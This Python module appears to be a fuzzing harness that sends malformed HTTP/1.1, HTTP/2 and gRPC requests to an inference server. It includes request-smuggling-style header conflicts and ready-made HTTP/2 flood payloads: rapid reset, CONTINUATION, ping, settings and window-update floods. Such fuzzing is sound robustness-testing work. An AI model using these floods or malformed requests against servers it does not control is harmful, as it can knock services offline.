"""Hostile bytes for servers of HTTP/1, HTTP/2 and gRPC: whole requests with parts exchanged, doubled, cut."""

import socket
import struct
from collections.abc import Iterator
from contextlib import closing, suppress
from itertools import pairwise

import numpy as np

from attack.http2 import PREFACE, frame

Address = str | tuple[str, int]
"""Of a Unix socket, or host and port."""

_LINES = (
    b"POST /v2/models/rows/infer HTTP/1.1",
    b"GET /v2 HTTP/1.1",
    b"GET /v2/models/rows HTTP/1.0",
    b"PRI * HTTP/2.0",
)
_LINES += (
    b"CONNECT a:1 HTTP/1.1",
    b"GET http://a/v2 HTTP/1.1",
    b"OPTIONS * HTTP/1.1",
    b"POST /v2//models/%00 HTTP/9.9",
)
_HEADERS = (
    *(b"host: localhost", b"content-length: 10", b"content-length: 99999999999999999999", b"content-length: -1"),
    *(
        b"content-length: +5",
        b"transfer-encoding: chunked",
        b"transfer-encoding: gzip, chunked",
        b"expect: 100-continue",
    ),
    *(b"connection: upgrade", b"upgrade: h2c", b"upgrade: websocket", b"content-encoding: gzip"),
    *(b"te: trailers", b"expect: 100-continue", b"x: " + b"y" * 20_000, b"a:" * 3000, b" folded: x", b"no colon"),
    *(
        b"inference-header-content-length: 5",
        b"x: " + b"y" * 20_000,
        b"a:" * 3000,
        b" folded: x",
        b"no colon",
        b": empty",
    ),
    *(
        b"accept-encoding: gzip",
        b"authorization: Bearer x",
        b"x-request-timeout-ms: 1",
        b"connection: close",
        b"\xff: \x00",
    ),
)
_BODIES = (
    b"",
    b"0123456789",
    b"5\r\nhello\r\n0\r\n\r\n",
    b"fffffffffffffffff\r\n",
    b"5;a=b\r\nhello\r\n0\r\nt: v\r\n\r\n",
)
_BODIES += (b"[" * 5000, b'{"inputs":[]}', b"\x1f\x8b\x08" + bytes(50))


def http1(random: np.random.Generator) -> bytes:
    """Some requests in a row, each more or less wrong."""
    parts: list[bytes] = []
    for _ in range(int(random.integers(1, 4))):
        headers = [_HEADERS[at] for at in random.integers(0, len(_HEADERS), int(random.integers(0, 6)))]
        line, body = _LINES[random.integers(len(_LINES))], _BODIES[random.integers(len(_BODIES))]
        end = (b"\r\n", b"\n", b"\r")[random.choice(3, p=[0.9, 0.08, 0.02])]
        parts.append(end.join((line, b"host: localhost", *headers, b"", b"")) + body)
    return _changed(b"".join(parts), random)


def http2(random: np.random.Generator) -> bytes:
    """A preface and frames of all types, flags, streams and lengths, some of them as they should be."""
    parts = [PREFACE, frame(4, 0, 0, b"")]
    for _ in range(int(random.integers(1, 30))):
        kind, stream = int(random.integers(0, 11)), int(random.choice([0, 1, 1, 3, 5, 2**31 - 1]))
        payload = random.bytes(int(random.choice([0, 4, 5, 6, 8, 9, 200, 16_384])))
        if kind == 1:
            payload = b"\x83\x86\x44\x1f/inference.GRPCInferenceService\x41\x01a\x5f\x10application/grpc"
        parts.append(frame(kind, int(random.choice([0, 1, 4, 5, 8, 32, 255])), stream, payload))
    return _changed(b"".join(parts), random) if random.random() < 0.5 else b"".join(parts)


def floods() -> Iterator[bytes]:
    """What costs its sender little: resets, CONTINUATION without end, pings, settings, empty frames, windows."""
    head = b"\x83\x86\x44\x01/\x41\x01a"
    start = PREFACE + frame(4, 0, 0, b"")
    yield start + b"".join(frame(1, 4, n, head) + frame(3, 0, n, bytes(4)) for n in range(1, 4001, 2))
    yield start + frame(1, 0, 1, head) + frame(9, 0, 1, b"\x00\x01x\x01y" * 200) * 1000
    yield start + frame(6, 0, 0, bytes(8)) * 20_000
    yield start + frame(4, 0, 0, struct.pack(">HI", 4, 1)) * 20_000
    yield start + frame(1, 4, 1, head) + frame(0, 0, 1, b"") * 50_000
    yield start + frame(1, 4, 1, head) + frame(8, 0, 1, struct.pack(">I", 1)) * 50_000
    yield start + frame(2, 0, 1, bytes(5)) * 50_000


def send(address: Address, data: bytes, random: np.random.Generator, patience: float = 0.05) -> bool:
    """Send in some pieces, read what comes within `patience` seconds, hang up. Whether somebody was there."""
    family = socket.AF_UNIX if isinstance(address, str) else socket.AF_INET
    with closing(socket.socket(family)) as line:
        line.settimeout(2.0)
        try:
            line.connect(address)
        except OSError:
            return False
        _send(line, data, random, patience)
    return True


def _send(line: socket.socket, data: bytes, random: np.random.Generator, patience: float) -> None:
    with suppress(OSError):
        cuts = sorted({0, len(data), *random.integers(0, len(data) + 1, int(random.integers(0, 4))).tolist()})
        for start, end in pairwise(cuts):
            line.sendall(data[start:end])
        line.settimeout(patience)
        while line.recv(65_536):
            pass


def _changed(data: bytes, random: np.random.Generator) -> bytes:
    out = bytearray(data)
    for _ in range(int(random.choice([0, 0, 1, 3, 10]))):
        at = int(random.integers(0, len(out) + 1))
        match int(random.integers(0, 4)):
            case 0:
                del out[at : at + int(random.integers(1, 30))]
            case 1:
                out[at:at] = random.bytes(int(random.integers(1, 30)))
            case 2:
                out[at:at] = out[: int(random.integers(0, 200))]
            case _:
                out[at : at + 1] = random.bytes(1)
    return bytes(out)
